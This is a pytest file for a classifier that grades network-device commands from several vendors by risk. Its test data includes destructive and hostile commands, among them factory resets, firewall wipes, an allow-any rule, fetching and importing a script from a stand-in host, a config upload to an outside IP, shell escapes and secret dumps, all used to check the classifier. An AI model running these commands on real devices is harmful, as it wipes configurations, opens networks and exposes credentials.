"""Devices of every family: the same question is a read on each, the same change a change."""

import pytest

from schemas.words import Effect, RiskLevel
from stage_e.risk.gear.judge import judge_gear


@pytest.mark.parametrize(
    ("vendor", "command"),
    [
        ("Cisco IOS-XE", "show ip interface brief | exclude unassigned"),
        ("cisco_ios_telnet", "show archive log config all | include no vlan"),
        ("cisco_ios", "show running-config | section router ospf"),
        ("cisco_ios", "show tech-support | include uptime"),
        ("junos", "show configuration system name-server"),
        ("cisco_asa", "show vpn-sessiondb summary"),
        ("cisco_asa", "packet-tracer input outside tcp 10.1.1.1 1234 10.2.2.2 443"),
        ("junos", "show security flow session summary"),
        ("MikroTik RouterOS", "/interface print stats"),
        ("mikrotik_routeros", '/log print where topics~"error"'),
        ("mikrotik_routeros", "/interface monitor-traffic ether1 once"),
        ("mikrotik_routeros", "/ping 10.0.0.1 count=4"),
        ("f5_bigip", "show ltm pool members"),
        ("F5 TMOS", "show ltm pool"),
        ("hpe_procurve", "show interfaces brief"),
        ("aruba_osswitch", "show vlans"),
        ("junos", "ping 10.0.0.1 count 3 rapid"),
        ("F5 BIG-IP", "tmsh list ltm virtual vs_shop"),
        ("junos", 'show log messages | match "error|fail" | last 50'),
        ("fortinet", "get router info routing-table all"),
        ("fortinet", "diag sys top 5 1"),
        ("fortinet", "diagnose vpn tunnel list"),
        ("fortinet", "exec ping 10.0.0.1"),
        ("fortinet", "show firewall policy 12"),
        ("PAN-OS", "show high-availability state"),
        ("paloalto_panos", "test security-policy-match source 10.1.1.1 destination 10.2.2.2 protocol 6"),
        ("paloalto_panos", "tail lines 50 mp-log ms.log"),
        ("huawei", "dis int brief"),
        ("huawei", "display current-configuration interface GigabitEthernet0/0/1"),
        ("hp_comware", "screen-length disable"),
    ],
)
def test_a_look_at_a_device_is_low(vendor: str, command: str) -> None:
    judged = judge_gear([command], vendor)

    assert judged.effect.harmless
    assert judged.risk is RiskLevel.LOW


@pytest.mark.parametrize(
    ("vendor", "command", "risk"),
    [
        ("cisco_asa", "more system:running-config", RiskLevel.HIGH),
        ("cisco_ios", "show running-config | include interface|.", RiskLevel.MEDIUM),
        ("cisco_ios", "show tech-support | include secret", RiskLevel.HIGH),
        ("junos", "show configuration system login", RiskLevel.MEDIUM),
        ("mikrotik_routeros", "/export", RiskLevel.MEDIUM),
        ("mikrotik_routeros", "/export show-sensitive", RiskLevel.HIGH),
        ("mikrotik_routeros", "/ppp secret print", RiskLevel.HIGH),
        ("mikrotik_routeros", "/ping 10.0.0.1", RiskLevel.MEDIUM),
        ("fortinet", "show full-configuration", RiskLevel.MEDIUM),
        ("fortinet", "show system admin", RiskLevel.MEDIUM),
        ("paloalto_panos", "show config running", RiskLevel.MEDIUM),
        ("huawei", "dis cur", RiskLevel.MEDIUM),
        ("huawei", "display current-configuration | include cipher", RiskLevel.HIGH),
    ],
)
def test_a_look_that_shows_secrets_or_never_ends_is_asked_about(vendor: str, command: str, risk: RiskLevel) -> None:
    judged = judge_gear([command], vendor)

    assert judged.effect.harmless
    assert judged.risk is risk


@pytest.mark.parametrize(
    ("vendor", "commands"),
    [
        ("cisco_asa", ["no failover active"]),
        ("cisco_asa", ["conf t", "clear configure all"]),
        ("cisco_asa", ["conf t", "access-list OUTSIDE extended permit ip any any"]),
        ("mikrotik_routeros", ["/system reset-configuration no-defaults=yes"]),
        ("mikrotik_routeros", ["/ip firewall filter remove [find]"]),
        ("mikrotik_routeros", ["/ip firewall filter add chain=input action=drop"]),
        ("mikrotik_routeros", ["/ip address print; /user remove admin"]),
        ("mikrotik_routeros", ["/tool fetch url=http://x.example/a.rsc", "/import a.rsc"]),
        ("fortinet", ["execute factoryreset"]),
        ("fortinet", ["exec formatlogdisk"]),
        ("fortinet", ["config firewall policy", "purge", "end"]),
        ("fortinet", ["config system interface", "edit port1", "set allowaccess ping", "end"]),
        ("paloalto_panos", ["request system private-data-reset"]),
        ("paloalto_panos", ["configure", "delete network interface", "commit"]),
        ("paloalto_panos", ["configure", "load config from old.xml", "commit"]),
        ("huawei", ["reset saved-configuration"]),
        ("huawei", ["sys", "undo bgp 65001"]),
        ("huawei", ["sys", "interface Eth-Trunk1", "shutdown"]),
    ],
)
def test_what_loses_a_device_or_the_way_to_it_is_critical(vendor: str, commands: list[str]) -> None:
    judged = judge_gear(commands, vendor)

    assert not judged.effect.harmless
    assert judged.risk is RiskLevel.CRITICAL


@pytest.mark.parametrize(
    ("vendor", "commands"),
    [
        ("mikrotik_routeros", ["/system reboot"]),
        ("mikrotik_routeros", ["/system", "reboot"]),
        ("mikrotik_routeros", ["/ip firewall filter", "remove 3"]),
        ("mikrotik_routeros", ["/ip route remove 3 print"]),
        ("mikrotik_routeros", ["/interface print file=x", "/interface disable ether3"]),
        ("mikrotik_routeros", ["/frobnicate now"]),
        ("fortinet", ["diagnose sys session clear"]),
        ("fortinet", ["execute backup config tftp x.cfg 10.0.0.9"]),
        ("fortinet", ["get system status | tee x"]),
        ("fortinet", ["show system interface", "execute reboot"]),
        ("paloalto_panos", ["request restart system"]),
        ("paloalto_panos", ["debug software restart process management-server"]),
        ("huawei", ["reboot fast"]),
        ("huawei", ["system-view", "stp disable"]),
        ("somebody else", ["show version"]),
    ],
)
def test_another_change_or_what_nobody_listed_is_at_least_high(vendor: str, commands: list[str]) -> None:
    judged = judge_gear(commands, vendor)

    assert not judged.effect.harmless
    assert judged.risk in {RiskLevel.HIGH, RiskLevel.CRITICAL}


@pytest.mark.parametrize(
    ("commands", "effect"),
    [
        ("/ip address print", Effect.READ),
        ("get system status", Effect.READ),
        ("display version", Effect.READ),
        ("/system reboot", Effect.DISRUPTIVE),
        ("execute reboot", Effect.DISRUPTIVE),
    ],
)
def test_a_command_that_only_one_family_knows_tells_what_the_device_is(commands: str, effect: Effect) -> None:
    assert judge_gear([commands], "").effect is effect


@pytest.mark.parametrize(
    "command",
    [
        "delete ltm pool p1",
        "modify ltm pool p1 members modify { 10.0.0.1:80 { state user-down } }",
        "load sys config default",
        "run util bash -c id",
        "list auth user",
        "show sys crypto master-key",
        "show ltm pool > /tmp/x",
        "show ltm pool | sh",
    ],
)
def test_what_changes_or_opens_a_load_balancer_is_asked_about(command: str) -> None:
    assert judge_gear([command], "f5_bigip").risk in {RiskLevel.HIGH, RiskLevel.CRITICAL}


def test_a_pattern_in_quotes_hides_no_sink() -> None:
    assert judge_gear(['show log messages | match "a|b" | save /tmp/x'], "junos").risk in {
        RiskLevel.HIGH,
        RiskLevel.CRITICAL,
    }
    assert judge_gear(['show logging | include "a | redirect flash:x"'], "cisco_ios").risk in {
        RiskLevel.HIGH,
        RiskLevel.CRITICAL,
    }
